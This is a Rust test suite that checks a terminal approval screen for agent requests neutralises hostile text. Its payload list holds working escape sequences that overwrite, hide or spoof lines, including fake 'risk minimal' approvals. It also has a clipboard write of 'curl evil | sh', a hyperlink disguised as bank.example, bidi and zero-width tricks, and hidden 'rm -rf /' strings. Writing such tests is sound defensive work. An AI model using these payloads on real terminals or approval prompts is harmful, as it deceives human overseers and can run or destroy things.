//! Text meant to deceive whoever reads it on a terminal, in every place where others supply the text.

use approval_core::model::visible::{is_hidden, visible_line};
use serde_json::json;

use super::super::super::view::{Attached, Choice, Previewed};
use super::*;

/// Sequences that terminals act upon, and characters that hide or move text.
fn payloads() -> Vec<String> {
    let fixed = [
        "\u{1b}[2J\u{1b}[H",        // clears the screen
        "\u{1b}[8mhidden\u{1b}[0m", // conceals
        "\u{1b}[30;40mblack on black\u{1b}[0m",
        "\u{1b}[1A\u{1b}[2K risk        minimal", // overwrites the line above
        "\u{1b}[s\u{1b}[1;1Hfake\u{1b}[u",        // writes elsewhere
        "\u{1b}[?25l",                            // hides the cursor
        "\u{1b}[?1049h",                          // the other screen
        "\u{1b}[6n\u{1b}[c\u{1b}[>c",             // makes the terminal type an answer
        "\u{1b}[21t",                             // makes it type its title
        "\u{1b}]0;y\n\u{7}\u{1b}[21t",
        "\u{1b}]8;;https://evil.example\u{1b}\\bank.example\u{1b}]8;;\u{1b}\\",
        "\u{1b}]8;;https://evil.example\u{7}bank.example\u{1b}]8;;\u{7}",
        "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}", // the clipboard
        "\u{1b}]2;title\u{7}",
        "\u{1b}]4;0;rgb:00/00/00\u{7}", // colours
        "\u{1b}P$q\"p\u{1b}\\",         // device control
        "\u{1b}_private\u{1b}\\",
        "\u{1b}^message\u{1b}\\",
        "\u{1b}c", // reset
        "\u{1b}#8",
        "\u{1b}(0lqk", // line-drawing letters
        "\u{1b}%G",
        "\u{9b}2J", // the same in one character
        "\u{9d}0;title\u{9c}",
        "\u{90}q\u{9c}",
        "\u{84}\u{85}\u{8d}",
        "\u{e}shifted\u{f}",
        "harmless\r                      rm -rf /",
        "rm -rf /\rls",
        "rm -rf /\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}ls      ",
        "a\u{7f}b",
        "ding\u{7}",
        "\u{b}\u{c}",
        "\u{0}",
        "\u{4}",
        "\u{1a}",
        "\u{5}",
        "pay \u{202e}0001\u{202c} cents",
        "\u{202d}\u{202a}\u{202b}x\u{202c}",
        "\u{2066}a\u{2069}\u{2067}b\u{2069}\u{2068}c\u{2069}",
        "\u{200e}\u{200f}\u{61c}",
        "ad\u{200b}min",
        "ad\u{200c}min",
        "ad\u{200d}min",
        "ad\u{2060}min",
        "ad\u{feff}min",
        "ad\u{ad}min",
        "a\u{180e}b\u{115f}c\u{1160}d\u{3164}e\u{ffa0}f",
        "x\u{fe0f}\u{fe0e}\u{e0100}",
        "\u{e0001}\u{e0041}\u{e0042}\u{e007f}",
        "a\u{2028}b\u{2029}c",
        "a\u{a0}b\u{2003}c\u{202f}d\u{3000}e",
        "\u{2800}\u{2800}blank",
        "\u{e000}\u{f8ff}\u{10fffd}",
        "\u{fff9}a\u{fffa}b\u{fffb}\u{fffc}",
        "\n\n\n\nApproval wanted: harmless\n  risk        minimal\n",
        "\r\n  | }\r\nuser:ann@example.com> y\r\n",
        "\ttab\t",
        "\u{27e8}U+202E\u{27e9}",
    ];
    let mut payloads: Vec<String> = fixed.map(str::to_owned).into();
    payloads.push("\n".repeat(3_000) + "tail");
    payloads.push(" ".repeat(3_000) + "tail");
    payloads.push("Z".to_owned() + &"\u{301}\u{489}\u{20dd}".repeat(60));
    payloads.push("\u{1b}[".repeat(500));
    payloads
}

/// Puts the text in one place of a request. `None` after the last place.
fn with(place: usize, text: &str) -> Option<View> {
    let mut view = view();
    let text = text.to_owned();
    match place {
        0 => view.description = text,
        1 => view.agent = text,
        2 => view.on_behalf_of = Some(text),
        3 => view.intent = Some(text),
        4 => view.remarks = vec![(text, "remark".to_owned())],
        5 => view.remarks = vec![("agent:worker-3".to_owned(), text)],
        6 => {
            view.options = vec![Choice { name: "name".to_owned(), title: text, description: "d".to_owned() }];
        }
        7 => view.action = text,
        8 => view.run = Some(text),
        9 => view.cost = Some(text),
        10 if !text.contains(['\n', '\r']) => {
            view.preview = Some(Previewed { text, failed: false, cautions: vec![] });
        }
        _ => return None,
    }
    Some(view)
}

fn cases() -> impl Iterator<Item = (View, String)> {
    payloads()
        .into_iter()
        .flat_map(|text| (0..).map_while(move |place| Some((with(place, &text)?, text.clone()))))
}

/// The lines may hold nothing that a terminal acts upon, nothing invisible, and nothing that leaves its column.
fn assert_harmless(output: &str) {
    for line in output.lines() {
        assert!(!line.chars().any(is_hidden), "raw in {line:?}");
        let ours = ["Approval wanted: ", "  ", "That was long: "];
        assert!(ours.iter().any(|start| line.starts_with(start)), "left its column: {line:?}");
    }
}

fn without_space(text: &str) -> String {
    text.chars().filter(|c| !matches!(c, ' ' | '\n' | '|')).collect()
}

#[test]
fn no_hostile_text_reaches_the_screen_raw_and_all_of_it_is_shown() {
    let mut count = 0;
    for (view, text) in cases() {
        count += 1;
        let output = shown(&view, None);
        assert_harmless(&output);
        assert!(output.contains(&*visible_line(&text)), "{text:?} is not whole in {output}");
        let wrapped = shown(&view, Some(60));
        assert_harmless(&wrapped);
        assert!(
            without_space(&wrapped).contains(&without_space(&visible_line(&text))),
            "{text:?} in {wrapped}"
        );
    }
    assert!(count >= 500, "{count} cases");
}

#[test]
fn the_lines_of_a_request_cannot_be_imitated() {
    for (view, text) in cases() {
        let output = shown(&view, None);
        let risks = output.lines().filter(|line| line.starts_with("  risk")).count();
        let headings = output.lines().filter(|line| line.starts_with("Approval wanted")).count();
        assert_eq!((risks, headings), (1, 1), "{text:?} in {output}");
    }
}

#[test]
fn hostile_arguments_are_neutral_and_whole() {
    let mut count = 0;
    for text in payloads() {
        for value in [json!({"a": text}), json!({text.as_str(): 1}), json!([[text], {"x": {"y": text}}])] {
            count += 1;
            let view = View { arguments: value.to_string(), ..view() };
            for width in [None, Some(60)] {
                let output = shown(&view, width);
                assert_harmless(&output);
                let expected = without_space(&visible_line(&value.to_string()));
                assert!(without_space(&output).contains(&expected), "{text:?} in {output}");
            }
        }
    }
    assert!(count >= 180, "{count} cases");
}

#[test]
fn hostile_attachments_are_neutral_and_whole() {
    let mut count = 0;
    for text in payloads() {
        count += 1;
        let what = "text/plain, 7 bytes, sha256:00".to_owned();
        let attached = Attached { name: text.clone(), what, text: Some(text.clone()) };
        let lines = format!("first\n{text}");
        let preview = Some(Previewed { text: lines.clone(), failed: false, cautions: vec![] });
        let view = View { attachments: vec![attached], preview, ..view() };
        for width in [None, Some(60)] {
            let output = shown(&view, width);
            assert_harmless(&output);
            let expected = without_space(&visible_line(&json!(text).to_string()));
            assert!(
                without_space(&output).matches(&expected).count() >= 2,
                "name and text of {text:?} in {output}"
            );
            let expected = without_space(&visible_line(&json!(lines).to_string()));
            assert!(without_space(&output).contains(&expected), "preview of {text:?} in {output}");
            let risks = output.lines().filter(|line| line.starts_with("  risk")).count();
            assert_eq!(risks, 1, "{text:?} in {output}");
        }
    }
    assert!(count >= 60, "{count} cases");
}

#[test]
fn colours_are_the_only_escape_sequences_and_only_ours() {
    for (view, text) in cases() {
        let output = request(&view, now(), None).paint(Look { colour: true, width: None });
        let mut rest = output.as_str();
        while let Some((_, after)) = rest.split_once('\u{1b}') {
            let known = ["[0m", "[1m", "[2m", "[32m", "[33m", "[36m", "[1;31m"];
            assert!(known.iter().any(|sgr| after.starts_with(sgr)), "{text:?}: {:?}", after.get(..10));
            rest = after;
        }
    }
}

#[test]
fn a_payload_behind_ten_megabytes_is_shown() {
    for size in [10_000, 1_000_000, 10_000_000] {
        let filler = "A".repeat(size);
        let view =
            View { arguments: json!({"filler": filler, "last": "; DROP TABLE"}).to_string(), ..view() };
        for width in [None, Some(80)] {
            let output = shown(&view, width);
            assert!(output.contains("\"last\": \"; DROP TABLE\""), "{size}");
            let arguments = output.lines().filter(|line| line.starts_with("  | "));
            let count: usize = arguments.map(|line| line.matches('A').count()).sum();
            assert_eq!(count, size + "DROP TABLE".matches('A').count(), "{size}");
            assert!(output.ends_with("its risk is high.\n"), "the end repeats what it is about");
        }
    }
}

#[test]
fn a_payload_between_blank_lines_is_shown() {
    let body = format!("Hello,{}rm -rf /{}Yours", "\n".repeat(5_000), "\n".repeat(5_000));
    let view = View { arguments: json!({"body": body}).to_string(), ..view() };
    let output = shown(&view, Some(80));
    assert!(output.contains("rm -rf /"));
    let blank = output.lines().filter(|line| line.trim_matches([' ', '|']).is_empty()).count();
    assert_eq!(blank, 0, "no line of the screen is spent on nothing");
}
